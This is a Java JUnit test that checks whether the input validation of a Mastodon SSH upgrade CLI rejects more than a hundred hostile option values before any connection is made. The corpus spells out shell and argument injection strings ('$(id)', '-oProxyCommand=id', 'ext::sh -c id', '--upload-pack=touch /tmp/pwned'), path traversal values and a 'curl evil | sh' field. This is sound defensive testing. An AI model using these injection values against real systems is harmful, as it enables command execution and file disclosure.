package io.github.flowupgrade.faults;

import static org.assertj.core.api.Assertions.assertThat;

import io.github.flowupgrade.cli.FlowCommand;
import io.github.flowupgrade.testing.EmbeddedSshServer;
import io.github.flowupgrade.testing.FakeGitHub;
import java.io.PrintWriter;
import java.io.StringWriter;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Tag;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * Fault matrix row "bad input": more than a hundred hostile values across every option of every subcommand
 * (fetch-release, checkout, restart, upgrade, audit), each given alone to an otherwise valid command line that points
 * at a real SSH server and a GitHub API double. Each must end with exit code 2 and a one-line {@code flow: } message,
 * with zero SSH sessions opened, zero GitHub requests made and no audit trail started: nothing reached anything. The
 * same command lines with their valid values do reach the server, so what stopped the hostile ones was validation.
 */
@Tag("ssh")
class BadInputCorpusTest {
    private static final String LONG = "x".repeat(5000);

    @TempDir
    Path dir;

    EmbeddedSshServer server;
    FakeGitHub github;
    Path auditLog;

    /** One hostile value for one option of one subcommand ({@code value} null for a flag). */
    record Case(String command, String option, String value) {
        @Override
        public String toString() {
            return command + " " + option + " " + (value == null ? "" : printable(value));
        }
    }

    @BeforeEach
    void start() {
        server = EmbeddedSshServer.start(dir.resolve("server"));
        github = FakeGitHub.mastodon();
        auditLog = dir.resolve("audit.jsonl");
    }

    @AfterEach
    void stop() {
        server.close();
        github.close();
    }

    /** A valid command line for each subcommand, as option to value (null for a flag). */
    private Map<String, String> base(String command) throws Exception {
        Map<String, String> args = new LinkedHashMap<>();
        String user = System.getProperty("user.name");
        switch (command) {
            case "fetch-release" -> {
                args.put("--app", "mastodon");
                args.put("--api-url", github.apiUrl().toString());
                args.put(
                        "--cache-dir",
                        Files.createDirectories(dir.resolve("cache")).toString());
                args.put("--tag", "v4.7.2");
                args.put("--from", "v4.5.0");
                args.put("--timeout", "5");
            }
            case "checkout", "restart", "upgrade" -> {
                args.put("--host", "127.0.0.1");
                args.put("--port", Integer.toString(server.port()));
                args.put("--login", user);
                args.put("--app-user", user);
                args.put("--dir", dir.resolve("home/live").toString());
                args.put("--identity", server.clientKey().privateKey().toString());
                args.put("--known-hosts", server.knownHosts().toString());
                args.put("--connect-timeout", "5");
                args.put("--command-timeout", "30");
                args.put("--parallel", "1");
                args.put("--audit-log", auditLog.toString());
                args.put("--actor", "corpus@ci");
                if (command.equals("checkout")) {
                    args.put("--tag", "v4.3.1");
                } else if (command.equals("restart")) {
                    args.put("--services", "sidekiq,web");
                    args.put("--streaming", "never");
                    args.put("--no-prompt", null);
                } else {
                    args.put("--tag", "v4.7.2");
                    args.put("--from", "v4.5.0");
                    args.put("--api-url", github.apiUrl().toString());
                    args.put(
                            "--cache-dir",
                            Files.createDirectories(dir.resolve("cache")).toString());
                    args.put("--streaming", "never");
                    args.put("--no-prompt", null);
                }
            }
            default -> throw new IllegalArgumentException(command);
        }
        return args;
    }

    private List<Case> corpus() throws Exception {
        Path missing = dir.resolve("does-not-exist");
        Path aDirectory = Files.createDirectories(dir.resolve("a-directory"));
        Path notJson = Files.writeString(dir.resolve("not.json"), "{\"extends\": \"mastodon\", <script>");
        Path hostileProfile =
                Files.writeString(dir.resolve("hostile.json"), "{\"extends\": \"mastodon\", \"user\": \"m;id\"}");
        Path unknownField = Files.writeString(
                dir.resolve("unknown.json"), "{\"extends\": \"mastodon\", \"postDeploy\": \"curl evil | sh\"}");
        Path hostileUnit = Files.writeString(
                dir.resolve("unit.json"),
                "{\"extends\": \"mastodon\", \"services\": {\"web\": [\"mastodon-web;reboot\"]}}");
        Path noPlan = Files.writeString(dir.resolve("noplan.json"), "{\"releases\": []}");
        Path aFile = Files.writeString(dir.resolve("a-file"), "not a directory");

        List<Case> cases = new ArrayList<>();
        for (String command : List.of("checkout", "restart", "upgrade")) {
            for (String v : List.of(
                    "127.0.0.1;id",
                    "$(id)",
                    "`id`",
                    "-oProxyCommand=id",
                    "web1\nweb2",
                    "web 1",
                    LONG,
                    "../etc/passwd",
                    "host\0",
                    "http://127.0.0.1/")) {
                cases.add(new Case(command, "--host", v));
            }
            for (String v : List.of("0", "65536", "-1", "22;id")) {
                cases.add(new Case(command, "--port", v));
            }
            for (String v : List.of("root\nid", "../root", "-l", "$(id)")) {
                cases.add(new Case(command, "--login", v));
            }
            cases.add(new Case(command, "--identity", missing.toString()));
            cases.add(new Case(command, "--identity-passphrase-env", "A;B"));
            cases.add(new Case(command, "--identity-passphrase-env", "FLOW_CORPUS_UNSET_VARIABLE"));
            cases.add(new Case(command, "--known-hosts", missing.toString()));
            cases.add(new Case(command, "--host-key", "SHA256:short"));
            cases.add(new Case(command, "--host-key", "MD5:00:11:22"));
            for (String v : List.of(
                    "wordpress",
                    missing + ".json",
                    notJson.toString(),
                    hostileProfile.toString(),
                    unknownField.toString(),
                    hostileUnit.toString())) {
                cases.add(new Case(command, "--app", v));
            }
            for (String v : List.of(
                    "/home/mastodon/../../root",
                    "home/mastodon/live",
                    "/home/$(id)/live",
                    "/home/mastodon/live;id",
                    "/",
                    "/home/x\nid")) {
                cases.add(new Case(command, "--dir", v));
            }
            for (String v : List.of("mastodon;id", "$(id)", "-mastodon", "a".repeat(40))) {
                cases.add(new Case(command, "--app-user", v));
            }
            cases.add(new Case(command, "--as", "doas"));
            cases.add(new Case(command, "--as", "su;id"));
            cases.add(new Case(command, "--connect-timeout", "0"));
            cases.add(new Case(command, "--command-timeout", "86401"));
            cases.add(new Case(command, "--parallel", "0"));
            cases.add(new Case(command, "--parallel", "65"));
        }
        for (String command : List.of("checkout", "upgrade", "fetch-release")) {
            for (String v : List.of(
                    "v4.3.1;id",
                    "$(id)",
                    "`id`",
                    "v4.3.1\nid",
                    "--upload-pack=touch /tmp/pwned",
                    "-v4.3.1",
                    "../../v4.3.1",
                    "main",
                    "v4.3.1'",
                    "v4.3." + LONG,
                    "HEAD~1")) {
                cases.add(new Case(command, "--tag", v));
            }
        }
        cases.add(new Case("checkout", "--expect-commit", "abc"));
        cases.add(new Case("checkout", "--expect-commit", "deadbeef;id"));
        cases.add(new Case("checkout", "--expect-commit", "g".repeat(40)));
        cases.add(new Case("checkout", "--rollback", null));

        for (String command : List.of("upgrade", "fetch-release")) {
            for (String v : List.of("v4.2.0;id", "$(id)", "latest")) {
                cases.add(new Case(command, "--from", v));
            }
            for (String v : List.of("mastodon", "mastodon/mastodon;id", "../../etc/passwd", "a/b/c", "ma stodon/x")) {
                cases.add(new Case(command, "--repo", v));
            }
            for (String v : List.of(
                    "file:///etc/passwd",
                    "javascript:alert(1)",
                    "ftp://127.0.0.1/",
                    "not a url",
                    "http://127.0.0.1:99999/")) {
                cases.add(new Case(command, "--api-url", v));
            }
            cases.add(new Case(command, "--token-env", "A;B"));
            cases.add(new Case(command, "--token-env", "FLOW_CORPUS_UNSET_TOKEN"));
            cases.add(new Case(command, "--git-url", "ext::sh -c id"));
            cases.add(new Case(command, "--git-url", "--upload-pack=id"));
            cases.add(new Case(command, "--cache-dir", aFile.toString()));
        }
        for (String v : List.of("wordpress", notJson.toString(), hostileProfile.toString(), unknownField.toString())) {
            cases.add(new Case("fetch-release", "--app", v));
        }
        cases.add(new Case("fetch-release", "--timeout", "0"));
        cases.add(new Case("fetch-release", "--timeout", "-1"));

        for (String command : List.of("upgrade", "restart")) {
            cases.add(new Case(command, "--health-timeout", "0"));
            cases.add(new Case(command, "--health-timeout", "3601"));
            cases.add(new Case(command, "--settle", "-1"));
            cases.add(new Case(command, "--settle", "601"));
            cases.add(new Case(command, "--streaming", "sometimes"));
            cases.add(new Case(command, "--streaming", "always;id"));
            cases.add(new Case(command, "--approval-timeout", "0"));
        }
        cases.add(new Case("upgrade", "--task-timeout", "0"));
        cases.add(new Case("upgrade", "--task-timeout", "86401"));
        cases.add(new Case("restart", "--services", "sidekiq;reboot"));
        cases.add(new Case("restart", "--services", "postgresql"));
        cases.add(new Case("restart", "--plan", missing.toString()));
        cases.add(new Case("restart", "--plan", notJson.toString()));
        cases.add(new Case("restart", "--plan", noPlan.toString()));
        cases.add(new Case("restart", "--checkout-result", missing.toString()));
        cases.add(new Case("restart", "--checkout-result", notJson.toString()));

        cases.add(new Case("audit verify", "FILE", missing.toString()));
        cases.add(new Case("audit verify", "FILE", aDirectory.toString()));
        cases.add(new Case("audit show", "FILE", missing.toString()));
        cases.add(new Case("audit show", "FILE", aDirectory.toString()));
        return cases;
    }

    @Test
    void everyHostileValueIsRefusedWithExitCode2BeforeAnyConnection() throws Exception {
        List<Case> corpus = corpus();
        assertThat(corpus).hasSizeGreaterThanOrEqualTo(100);
        assertThat(corpus.stream().map(Case::command).distinct())
                .containsExactlyInAnyOrder(
                        "checkout", "restart", "upgrade", "fetch-release", "audit verify", "audit show");

        // First the valid command lines: each reaches the server or the API, so what stops a hostile one below is
        // the validation of its value, not a dead end in the base command line.
        Path validTrail = dir.resolve("valid-runs.jsonl").toAbsolutePath();
        for (String command : List.of("checkout", "restart", "upgrade", "fetch-release")) {
            int sessions = server.connections();
            int requests = github.requests();
            Run run = flow(argsOf(new Case(command, "--audit-log", validTrail.toString())));
            assertThat(server.connections() - sessions + github.requests() - requests)
                    .as("the valid %s command line reaches something (exit %d: %s)", command, run.code(), run.err())
                    .isPositive();
        }

        List<String> wrong = new ArrayList<>();
        for (Case c : corpus) {
            int sessions = server.connections();
            int requests = github.requests();
            boolean trail = Files.exists(auditLog);
            Run run = flow(argsOf(c));
            if (run.code() != 2
                    || !run.err().startsWith("flow: ")
                    || run.err().contains("internal error")
                    || run.err().contains("\tat ")) {
                wrong.add(c + " -> exit " + run.code() + ": " + run.err().strip());
            }
            if (server.connections() != sessions || github.requests() != requests) {
                wrong.add(c + " -> reached something: " + (server.connections() - sessions) + " SSH session(s), "
                        + (github.requests() - requests) + " GitHub request(s)");
            }
            if (!trail && Files.exists(auditLog)) {
                wrong.add(c + " -> started an audit trail before refusing");
            }
        }
        assertThat(wrong).as("hostile values not refused cleanly").isEmpty();
        assertThat(auditLog).as("no audit trail was started").doesNotExist();
        System.out.printf("%d hostile values refused with exit 2, nothing reached%n", corpus.size());
    }

    private List<String> argsOf(Case c) throws Exception {
        List<String> args = new ArrayList<>(List.of(c.command().split(" ")));
        if (c.command().startsWith("audit")) {
            args.add(c.value());
            return args;
        }
        Map<String, String> options = base(c.command());
        if (c.command().equals("fetch-release") && c.option().equals("--audit-log")) {
            return argsOf(new Case(c.command(), "--tag", "v4.7.2"));
        }
        options.put(c.option(), c.value());
        options.forEach((option, value) -> {
            if (value == null) {
                args.add(option);
            } else {
                args.add(option + "=" + value);
            }
        });
        return args;
    }

    record Run(int code, String out, String err) {}

    private static Run flow(List<String> args) {
        StringWriter out = new StringWriter();
        StringWriter err = new StringWriter();
        int code = FlowCommand.execute(args.toArray(String[]::new), new PrintWriter(out), new PrintWriter(err));
        return new Run(code, out.toString(), err.toString());
    }

    private static String printable(String value) {
        String shown = value.length() > 40 ? value.substring(0, 40) + "...(" + value.length() + " chars)" : value;
        return shown.replace("\n", "\\n").replace("\0", "\\0");
    }
}
